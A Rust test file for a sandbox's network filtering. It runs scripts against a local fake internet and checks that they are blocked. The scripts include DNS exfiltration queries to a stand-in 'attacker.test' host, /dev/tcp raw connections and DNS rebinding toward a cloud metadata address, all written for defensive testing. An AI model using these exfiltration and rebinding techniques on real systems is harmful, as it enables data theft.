@@ -1,0 +1,505 @@
+//! The network layer against a fake internet: test hosts in a network namespace each test makes
+//! (`ip netns add` + veth), serving DNS and HTTP for invented names. The test hosts' addresses
+//! look public (so the layer treats them like the internet) but are routed to the veth, and every
+//! lab checks with `ip route get` that they are before any traffic: nothing leaves the machine.
+
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::sync::atomic::{AtomicU32, Ordering};
+use std::time::{Duration, Instant};
+
+use band::policy::Policy;
+use band::proto::{Denial, Layer, RunRequest, Status};
+use pretty_assertions::assert_eq;
+
+use super::helpers::*;
+
+static NEXT: AtomicU32 = AtomicU32::new(0);
+
+/// One fake internet: namespace, veth, servers, a band-server config pointing at its DNS.
+struct Lab {
+    ns: String,
+    veth: String,
+    /// Third octet / hextet of every address of this lab.
+    n: u32,
+    dir: tempfile::TempDir,
+    server: Child,
+    config: PathBuf,
+}
+
+fn sh(args: &[&str]) {
+    let out = Command::new(args[0]).args(&args[1..]).output().unwrap_or_else(|e| panic!("{args:?}: {e}"));
+    assert!(out.status.success(), "{args:?} failed: {}", String::from_utf8_lossy(&out.stderr));
+}
+
+fn out(args: &[&str]) -> String {
+    let o = Command::new(args[0]).args(&args[1..]).output().unwrap_or_else(|e| panic!("{args:?}: {e}"));
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+impl Lab {
+    /// Addresses: `11.231.n.{1 host side, 2 "api" server, 3 "other" server}` and
+    /// `2a0f:b0a0:n::{1,2,3}`.
+    fn new() -> Lab {
+        // Claim a free number: `ip netns add` fails when the name exists (another test, or another
+        // test process, has it), so two labs never share addresses.
+        let base = std::process::id() + NEXT.fetch_add(1, Ordering::SeqCst) * 37;
+        let n = (0..250)
+            .map(|i| (base + i) % 250 + 1)
+            .find(|n| {
+                Command::new("ip").args(["netns", "add", &format!("bandt{n}")]).output().is_ok_and(|o| o.status.success())
+            })
+            .unwrap_or_else(|| panic!("no free lab number"));
+        let ns = format!("bandt{n}");
+        let veth = format!("bt{n}h");
+        let peer = format!("bt{n}n");
+        let _ = Command::new("ip").args(["link", "del", &veth]).output();
+        sh(&["ip", "link", "add", &veth, "type", "veth", "peer", "name", &peer]);
+        sh(&["ip", "link", "set", &peer, "netns", &ns]);
+        let v4 = |h: u32| format!("11.231.{n}.{h}");
+        let v6 = |h: u32| format!("2a0f:b0a0:{n:x}::{h}");
+        sh(&["ip", "addr", "add", &format!("{}/24", v4(1)), "dev", &veth]);
+        sh(&["ip", "-6", "addr", "add", &format!("{}/64", v6(1)), "dev", &veth, "nodad"]);
+        sh(&["ip", "link", "set", &veth, "up"]);
+        let nsx = |args: &[&str]| {
+            let mut a = vec!["ip", "netns", "exec", ns.as_str()];
+            a.extend_from_slice(args);
+            sh(&a);
+        };
+        nsx(&["ip", "link", "set", "lo", "up"]);
+        for h in [2, 3] {
+            nsx(&["ip", "addr", "add", &format!("{}/24", v4(h)), "dev", &peer]);
+            nsx(&["ip", "-6", "addr", "add", &format!("{}/64", v6(h)), "dev", &peer, "nodad"]);
+        }
+        nsx(&["ip", "link", "set", &peer, "up"]);
+        nsx(&["ip", "route", "add", "default", "via", &v4(1)]);
+        nsx(&["ip", "-6", "route", "add", "default", "via", &v6(1)]);
+        // Nothing may leave the machine: every address a test uses is routed to the veth.
+        for a in [v4(2), v4(3), v6(2), v6(3)] {
+            let r = out(&["ip", "route", "get", &a]);
+            assert!(r.contains(&format!("dev {veth}")), "{a} is not routed to the lab ({r}); refusing to send traffic");
+        }
+        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let zone = serde_json::json!({
+            "api.example.test": [v4(2), v6(2)],
+            "a.b.example.test": [v4(2)],
+            "example.test": [v4(2)],
+            "secret.example.test": [v4(2)],
+            "v6.example.test": [v6(2)],
+            "other.test": [v4(3)],
+            "rebind.example.test": ["10.231.0.9", "169.254.169.254"],
+        });
+        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/suite/netlab.py");
+        let listeners = [format!("{}:80", v4(2)), format!("{}:8080", v4(2)), format!("{}:80", v4(3)), format!("[{}]:80", v6(2)), format!("[{}]:80", v6(3))];
+        let mut cmd = Command::new("ip");
+        cmd.args(["netns", "exec", &ns, "/usr/bin/python3"]).arg(&script).arg(dir.path()).arg(zone.to_string());
+        cmd.args(&listeners).stdout(Stdio::null()).stderr(Stdio::inherit());
+        let server = cmd.spawn().unwrap_or_else(|e| panic!("netlab: {e}"));
+        let start = Instant::now();
+        while !dir.path().join("ready").exists() {
+            assert!(start.elapsed() < Duration::from_secs(20), "netlab did not start");
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        let config = dir.path().join("server.toml");
+        std::fs::write(&config, format!("dns_upstream = [\"{}:53\"]\n", v4(2))).unwrap_or_else(|e| panic!("{e}"));
+        Lab { ns, veth, n, dir, server, config }
+    }
+
+    fn v4(&self, h: u32) -> String {
+        format!("11.231.{}.{h}", self.n)
+    }
+
+    fn v6(&self, h: u32) -> String {
+        format!("2a0f:b0a0:{:x}::{h}", self.n)
+    }
+
+    fn log(&self, name: &str) -> String {
+        std::fs::read_to_string(self.dir.path().join(name)).unwrap_or_default()
+    }
+
+    fn run(&self, req: &RunRequest) -> Outcome {
+        finish(self.spawn(req))
+    }
+
+    fn spawn(&self, req: &RunRequest) -> Child {
+        spawn_with_config(req, &self.config)
+    }
+}
+
+impl Drop for Lab {
+    fn drop(&mut self) {
+        let _ = self.server.kill();
+        let _ = self.server.wait();
+        let _ = Command::new("ip").args(["netns", "del", &self.ns]).output();
+        let _ = Command::new("ip").args(["link", "del", &self.veth]).output();
+    }
+}
+
+fn net_policy(allow: &[&str], deny: &[&str]) -> Policy {
+    let mut p = policy();
+    p.allow.net = strs(allow);
+    p.deny.net = strs(deny);
+    p.allow.cli = strs(&["curl *", "python3 *"]);
+    p
+}
+
+fn band_tables() -> BTreeSet<String> {
+    let text = out(&["nft", "-j", "list", "tables"]);
+    band_server::net::nft::parse_tables_json(&text).unwrap_or_default().into_iter().filter(|t| t.starts_with("band_")).collect()
+}
+
+fn assert_no_table(o: &Outcome, run_id: &str) {
+    let t = format!("band_{run_id}");
+    assert!(!band_tables().contains(&t), "table {t} survived the run; server stderr:\n{}", o.server_stderr);
+}
+
+const PROBE: &str = r#"#!/bin/bash
+fetch_curl() { curl -sS -m 5 "$1" 2>&1 | tr '\n' ' '; echo "rc=${PIPESTATUS[0]}"; }
+fetch_py() { python3 -c 'import sys,urllib.request
+try: print(urllib.request.urlopen(sys.argv[1], timeout=5).read().decode().strip())
+except Exception as e: print("error", type(e).__name__, e)' "$1" 2>&1 | tail -1; }
+fetch_tcp() { ( exec 3<>"/dev/tcp/$1/$2" && printf 'GET /tcp HTTP/1.0\r\nHost: x\r\n\r\n' >&3 && tail -n1 <&3 ) 2>&1 | tr '\n' ' '; }
+"#;
+
+#[test]
+fn privileged_net_allowed_host_reachable_unlisted_refused_dns_pinned() {
+    privileged!();
+    let lab = Lab::new();
+    let other = lab.v4(3);
+    let script = format!(
+        "{PROBE}
+echo \"curl_ok=$(fetch_curl http://api.example.test/curl)\"
+echo \"py_ok=$(fetch_py http://api.example.test/py)\"
+echo \"tcp_ok=$(fetch_tcp api.example.test 80)\"
+echo \"curl_name=$(fetch_curl http://other.test/)\"
+echo \"py_name=$(fetch_py http://other.test/)\"
+echo \"tcp_name=$(fetch_tcp other.test 80)\"
+echo \"curl_ip=$(fetch_curl http://{other}/ip)\"
+echo \"py_ip=$(fetch_py http://{other}/ip)\"
+echo \"tcp_ip=$(fetch_tcp {other} 80)\"
+echo \"loopback=$(fetch_tcp 127.0.0.1 22)\"
+echo \"resolv=$(grep nameserver /etc/resolv.conf)\"
+"
+    );
+    let req = request(&script, net_policy(&["api.example.test"], &[]));
+    let o = lab.run(&req);
+    let kv = o.kv();
+    let get = |k: &str| kv.get(k).cloned().unwrap_or_else(|| panic!("no {k} in {o:#?}"));
+    // api.example.test has an A and an AAAA record: clients may pick either.
+    let api = [format!("{}:80", lab.v4(2)), format!("[{}]:80", lab.v6(2))];
+    let from_api = |text: &str, path: &str| api.iter().any(|a| text.contains(&format!("hello {a} {path}")));
+    assert!(from_api(&get("curl_ok"), "/curl"), "{}", get("curl_ok"));
+    assert!(get("curl_ok").ends_with("rc=0"));
+    assert!(from_api(&get("py_ok"), "/py"), "{}", get("py_ok"));
+    assert!(from_api(&get("tcp_ok"), "/tcp"), "{}", get("tcp_ok"));
+    // Unlisted name: not resolved (curl 6), urllib gets a resolution error, bash cannot resolve.
+    assert!(get("curl_name").ends_with("rc=6"), "{}", get("curl_name"));
+    assert!(get("py_name").contains("URLError"), "{}", get("py_name"));
+    assert!(!get("tcp_name").contains("hello"), "{}", get("tcp_name"));
+    // Raw IP of an unlisted server: refused at once.
+    assert!(get("curl_ip").ends_with("rc=7"), "{}", get("curl_ip"));
+    assert!(get("py_ip").contains("Connection refused") || get("py_ip").contains("ConnectionRefused"), "{}", get("py_ip"));
+    assert!(get("tcp_ip").contains("refused"), "{}", get("tcp_ip"));
+    assert!(get("loopback").contains("refused"), "{}", get("loopback"));
+    assert!(get("resolv").starts_with("nameserver 127.77."), "{}", get("resolv"));
+    // The fake internet saw only the allowed traffic, and no question about other.test.
+    let http = lab.log("http.log");
+    assert!(!http.contains(&format!("{other}:80")), "{http}");
+    assert_eq!(http.lines().filter(|l| api.iter().any(|a| l.starts_with(a.as_str()))).count(), 3, "{http}");
+    let dns = lab.log("dns.log");
+    assert!(dns.contains("api.example.test"), "{dns}");
+    assert!(!dns.contains("other.test"), "{dns}");
+    // Events and result: the refused name and address are listed.
+    assert!(o.result.denied.contains(&Denial::Dns { name: "other.test".into() }), "{:#?}", o.result.denied);
+    assert!(
+        o.result.denied.iter().any(|d| matches!(d, Denial::Net { host, port: Some(80), .. } if *host == other)),
+        "{:#?}",
+        o.result.denied
+    );
+    let net = o.result.network.clone().unwrap_or_else(|| panic!("no network report"));
+    assert!(
+        net.contacted.iter().any(|f| (f.addr == lab.v4(2) || f.addr == lab.v6(2)) && f.port == 80 && f.names == vec!["api.example.test".to_string()]),
+        "{net:#?}"
+    );
+    assert!(net.lookups.iter().any(|l| l.name == "other.test" && !l.allowed));
+    assert_no_table(&o, &req.run_id);
+}
+
+#[test]
+fn privileged_net_exfiltration_and_rebinding_are_refused() {
+    privileged!();
+    let lab = Lab::new();
+    let upstream = lab.v4(2);
+    let script = format!(
+        r#"#!/bin/bash
+python3 - <<'EOF'
+import random, socket, struct
+stub = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
+def q(name, qtype, server):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+    qid = random.randrange(65536)
+    body = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+    try:
+        s.sendto(struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + body + struct.pack("!HH", qtype, 1), (server, 53))
+        r = s.recv(4096); return "rcode=%d answers=%d" % (r[3] & 15, struct.unpack("!H", r[6:8])[0])
+    except Exception as e:
+        return "error " + type(e).__name__
+label = "a" * 63
+print("txt_exfil=" + q(label + ".attacker.test", 16, stub))
+print("a_exfil=" + q("c2VjcmV0.attacker.test", 1, stub))
+print("txt_allowed=" + q("api.example.test", 16, stub))
+print("direct_upstream=" + q("api.example.test", 1, "{upstream}"))
+print("rebind=" + q("rebind.example.test", 1, stub))
+EOF
+curl -sS -m 5 http://rebind.example.test/ >/dev/null 2>&1; echo "curl_rebind=$?"
+"#
+    );
+    let req = request(&script, net_policy(&["*.example.test"], &[]));
+    let o = lab.run(&req);
+    let kv = o.kv();
+    let get = |k: &str| kv.get(k).cloned().unwrap_or_else(|| panic!("no {k} in {o:#?}"));
+    assert_eq!(get("txt_exfil"), "rcode=3 answers=0");
+    assert_eq!(get("a_exfil"), "rcode=3 answers=0");
+    assert_eq!(get("txt_allowed"), "rcode=0 answers=0");
+    assert!(get("direct_upstream").starts_with("error"), "{}", get("direct_upstream"));
+    assert_eq!(get("rebind"), "rcode=0 answers=0");
+    assert_eq!(get("curl_rebind"), "6");
+    let dns = lab.log("dns.log");
+    assert!(!dns.contains("attacker"), "{dns}");
+    assert!(!dns.contains("api.example.test 16"), "TXT went upstream: {dns}");
+    let net = o.result.network.clone().unwrap_or_default();
+    let rebind = net.lookups.iter().find(|l| l.name == "rebind.example.test").unwrap_or_else(|| panic!("{net:#?}"));
+    assert_eq!(rebind.withheld, vec!["10.231.0.9".to_string(), "169.254.169.254".to_string()]);
+    assert!(rebind.addrs.is_empty());
+    assert_no_table(&o, &req.run_id);
+}
+
+#[test]
+fn privileged_net_wildcard_depth_deny_inside_wildcard_and_ports() {
+    privileged!();
+    let lab = Lab::new();
+    let script = format!(
+        "{PROBE}
+echo \"deep=$(fetch_curl http://a.b.example.test/)\"
+echo \"apex=$(fetch_curl http://example.test/)\"
+echo \"secret=$(fetch_curl http://secret.example.test/)\"
+echo \"api80=$(fetch_curl http://api.example.test/)\"
+echo \"api8080=$(fetch_curl http://api.example.test:8080/)\"
+"
+    );
+    let req = request(&script, net_policy(&["*.example.test:80"], &["secret.example.test"]));
+    let o = lab.run(&req);
+    let kv = o.kv();
+    let get = |k: &str| kv.get(k).cloned().unwrap_or_else(|| panic!("no {k} in {o:#?}"));
+    assert!(get("deep").ends_with("rc=0"), "{}", get("deep"));
+    assert!(get("apex").ends_with("rc=6"), "{}", get("apex"));
+    assert!(get("secret").ends_with("rc=6"), "{}", get("secret"));
+    assert!(get("api80").ends_with("rc=0"), "{}", get("api80"));
+    assert!(get("api8080").ends_with("rc=7"), "{}", get("api8080"));
+    assert!(!lab.log("http.log").contains(":8080"));
+    assert!(!lab.log("dns.log").contains("secret"));
+    assert_no_table(&o, &req.run_id);
+}
+
+#[test]
+fn privileged_net_ipv6_is_filtered_like_ipv4() {
+    privileged!();
+    let lab = Lab::new();
+    let script = format!(
+        "{PROBE}
+echo \"v6name=$(fetch_curl http://v6.example.test/)\"
+echo \"v6forced=$(fetch_curl -6 http://api.example.test/ 2>&1)\"
+echo \"v6raw=$(fetch_curl 'http://[{}]/')\"
+echo \"v6loop=$(fetch_curl 'http://[::1]:22/')\"
+",
+        lab.v6(3)
+    );
+    let req = request(&script, net_policy(&["v6.example.test", "api.example.test"], &[]));
+    let o = lab.run(&req);
+    let kv = o.kv();
+    let get = |k: &str| kv.get(k).cloned().unwrap_or_else(|| panic!("no {k} in {o:#?}"));
+    assert!(get("v6name").contains(&format!("hello [{}]:80", lab.v6(2))), "{}", get("v6name"));
+    assert!(get("v6raw").ends_with("rc=7"), "{}", get("v6raw"));
+    assert!(get("v6loop").ends_with("rc=7"), "{}", get("v6loop"));
+    assert!(!lab.log("http.log").contains(&lab.v6(3)));
+    let net = o.result.network.clone().unwrap_or_default();
+    assert!(net.denied.iter().any(|f| f.addr == lab.v6(3)), "{net:#?}");
+    assert_no_table(&o, &req.run_id);
+}
+
+#[test]
+fn privileged_net_concurrent_runs_do_not_share_allowances() {
+    privileged!();
+    let lab = Lab::new();
+    let api = lab.v4(2);
+    // Run A learns api.example.test, then holds its allowance for a while.
+    let a = request(&format!("{PROBE}\necho \"a=$(fetch_curl http://api.example.test/a)\"\nsleep 4\necho \"a2=$(fetch_curl http://{api}/a2)\"\n"), net_policy(&["api.example.test"], &[]));
+    // Run B may only reach other.test; it tries A's address while A holds it.
+    let b = request(&format!("{PROBE}\nsleep 1.5\necho \"b=$(fetch_curl http://{api}/b)\"\necho \"bo=$(fetch_curl http://other.test/bo)\"\n"), net_policy(&["other.test"], &[]));
+    let ca = lab.spawn(&a);
+    std::thread::sleep(Duration::from_millis(800));
+    // While A runs, its table is in the kernel, matched on its uid only.
+    let table = out(&["nft", "list", "table", "inet", &format!("band_{}", a.run_id)]);
+    assert!(table.contains("meta skuid") && table.contains("jump run"), "{table}");
+    // Run A's stub answers run A only: another user of the host is refused.
+    let stub = table
+        .lines()
+        .find_map(|l| l.trim().strip_prefix("ip daddr ").filter(|r| r.contains("skuid != {")).and_then(|r| r.split_whitespace().next()))
+        .unwrap_or_else(|| panic!("no stub rule in {table}"))
+        .to_string();
+    let probe = format!(
+        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n\
+         try:\n    s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x03api\\x07example\\x04test\\x00\\x00\\x01\\x00\\x01', ('{stub}', 53)); s.recv(512); print('answered')\n\
+         except OSError as e: print('refused', type(e).__name__)"
+    );
+    let other_user = out(&["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c", &probe]);
+    assert!(other_user.starts_with("refused"), "another user reached run A's stub: {other_user}");
+    let cb = lab.spawn(&b);
+    let (oa, ob) = (finish(ca), finish(cb));
+    let get = |o: &Outcome, k: &str| o.kv().get(k).cloned().unwrap_or_else(|| panic!("no {k} in {o:#?}"));
+    assert!(get(&oa, "a").ends_with("rc=0"), "{oa:#?}");
+    assert!(get(&oa, "a2").ends_with("rc=0"), "{oa:#?}");
+    assert!(get(&ob, "b").ends_with("rc=7"), "{ob:#?}");
+    assert!(get(&ob, "bo").ends_with("rc=0"), "{ob:#?}");
+    assert!(!lab.log("http.log").contains(" /b\n"));
+    assert_no_table(&oa, &a.run_id);
+    assert_no_table(&ob, &b.run_id);
+}
+
+#[test]
+fn privileged_net_a_leftover_process_cannot_use_a_later_allowance() {
+    privileged!();
+    let lab = Lab::new();
+    let api = lab.v4(2);
+    // The first run has no network; a daemonised child keeps trying the server after the run.
+    let mut p = policy();
+    p.allow.cli = strs(&["curl *", "setsid *", "nohup *"]);
+    let first = request(
+        &format!("#!/bin/bash\nsetsid bash -c 'for i in $(seq 1 40); do curl -s -m 1 http://{api}/leftover; sleep 0.1; done' </dev/null >/dev/null 2>&1 &\necho started\n"),
+        p,
+    );
+    let o1 = lab.run(&first);
+    assert_eq!(o1.result.status, Status::Ok, "{o1:#?}");
+    // A later run that may reach the server, started at once.
+    let second = request(&format!("{PROBE}\necho \"s=$(fetch_curl http://api.example.test/second)\"\nsleep 2\n"), net_policy(&["api.example.test"], &[]));
+    let o2 = lab.run(&second);
+    assert!(o2.kv().get("s").is_some_and(|s| s.ends_with("rc=0")), "{o2:#?}");
+    std::thread::sleep(Duration::from_millis(500));
+    let http = lab.log("http.log");
+    assert!(!http.contains("/leftover"), "a leftover process reached the server: {http}");
+    assert!(http.contains("/second"));
+    assert_no_table(&o2, &second.run_id);
+}
+
+#[test]
+fn privileged_net_insist_satisfied_and_unsatisfied() {
+    privileged!();
+    let lab = Lab::new();
+    let mut p = net_policy(&["other.test"], &[]);
+    p.insist.net = strs(&["api.example.test:80"]);
+    let ok = request(&format!("{PROBE}\nfetch_curl http://api.example.test/insist >/dev/null\n"), p.clone());
+    let o = lab.run(&ok);
+    assert_eq!(o.result.status, Status::Ok, "{o:#?}");
+    assert!(o.result.insist_missing.is_empty());
+    // Resolving is not enough: the run must reach the address.
+    let resolved_only = request("#!/bin/bash\npython3 -c 'import socket; socket.getaddrinfo(\"api.example.test\", 80)'\n", p.clone());
+    let o = lab.run(&resolved_only);
+    assert_eq!(o.result.status, Status::InsistUnsatisfied, "{o:#?}");
+    assert_eq!(o.result.insist_missing, vec!["net: api.example.test:80".to_string()]);
+    let nothing = request(&format!("{PROBE}\nfetch_curl http://other.test/ >/dev/null\n"), p);
+    let o = lab.run(&nothing);
+    assert_eq!(o.result.status, Status::InsistUnsatisfied, "{o:#?}");
+    assert_no_table(&o, &nothing.run_id);
+}
+
+#[test]
+fn privileged_net_table_removed_mid_run_kills_the_run() {
+    privileged!();
+    let lab = Lab::new();
+    let req = request("#!/bin/bash\necho started\nsleep 20\necho survived\n", net_policy(&["api.example.test"], &[]));
+    let child = lab.spawn(&req);
+    let table = format!("band_{}", req.run_id);
+    let start = Instant::now();
+    while !band_tables().contains(&table) {
+        assert!(start.elapsed() < Duration::from_secs(20), "the run's table never appeared");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    std::thread::sleep(Duration::from_millis(300));
+    sh(&["nft", "delete", "table", "inet", &table]);
+    let o = finish(child);
+    assert_eq!(o.result.status, Status::SetupFailed, "{o:#?}");
+    assert_eq!(o.result.error.as_ref().map(|e| e.layer), Some(Layer::Network));
+    assert!(start.elapsed() < Duration::from_secs(10));
+    assert!(!o.result.stdout.contains("survived"));
+}
+
+#[test]
+fn privileged_net_no_resolver_or_no_nft_fails_closed() {
+    privileged!();
+    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let cfg = dir.path().join("server.toml");
+    std::fs::write(&cfg, "nft = \"/nonexistent/nft\"\ndns_upstream = [\"192.0.2.53\"]\n").unwrap_or_else(|e| panic!("{e}"));
+    let req = request("#!/bin/bash\necho ran\n", net_policy(&["api.example.test"], &[]));
+    let o = finish(spawn_with_config(&req, &cfg));
+    assert_eq!(o.result.status, Status::SetupFailed, "{o:#?}");
+    let e = o.result.error.clone().unwrap_or_else(|| panic!("no error"));
+    assert_eq!(e.layer, Layer::Network);
+    assert!(e.message.contains("/nonexistent/nft"), "{}", e.message);
+    assert!(!o.result.stdout.contains("ran"));
+}
+
+#[test]
+fn privileged_net_kill9_mid_run_then_janitor_removes_the_table() {
+    privileged!();
+    let lab = Lab::new();
+    let req = request("#!/bin/bash\nsleep 1000\n", net_policy(&["api.example.test"], &[]));
+    let mut child = lab.spawn(&req);
+    let table = format!("band_{}", req.run_id);
+    let start = Instant::now();
+    while !band_tables().contains(&table) {
+        assert!(start.elapsed() < Duration::from_secs(20), "the run's table never appeared");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    std::thread::sleep(Duration::from_millis(300));
+    child.kill().unwrap_or_else(|e| panic!("{e}"));
+    let _ = child.wait();
+    // The dead server's table is still there: its run's uid stays filtered until the janitor.
+    assert!(band_tables().contains(&table));
+    let out = Command::new(server())
+        .arg("janitor")
+        .env(band_server::config::STATE_DIR_ENV, STATE_DIR)
+        .env(band_server::config::CONFIG_ENV, &lab.config)
+        .output()
+        .unwrap_or_else(|e| panic!("{e}"));
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(!band_tables().contains(&table), "janitor left {table}: {}", String::from_utf8_lossy(&out.stderr));
+}
+
+#[test]
+fn privileged_net_host_abstract_unix_sockets_are_out_of_reach() {
+    privileged!();
+    let lab = Lab::new();
+    // A host service on an abstract unix socket: shared network namespace, so same namespace.
+    let name = format!("band-test-{}", run_id());
+    let listener = std::os::unix::net::UnixListener::bind_addr(
+        &<std::os::unix::net::SocketAddr as std::os::linux::net::SocketAddrExt>::from_abstract_name(name.as_bytes())
+            .unwrap_or_else(|e| panic!("{e}")),
+    )
+    .unwrap_or_else(|e| panic!("{e}"));
+    listener.set_nonblocking(true).unwrap_or_else(|e| panic!("{e}"));
+    let script = format!(
+        "#!/bin/bash\npython3 -c '
+import socket
+s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+try:
+    s.connect(\"\\0{name}\"); print(\"abstract=connected\")
+except OSError as e:
+    print(\"abstract=\" + type(e).__name__)
+'\n"
+    );
+    let req = request(&script, net_policy(&["api.example.test"], &[]));
+    let o = lab.run(&req);
+    assert_eq!(o.kv().get("abstract").map(String::as_str), Some("PermissionError"), "{o:#?}");
+    assert!(listener.accept().is_err(), "the sandbox reached a host abstract socket");
+}
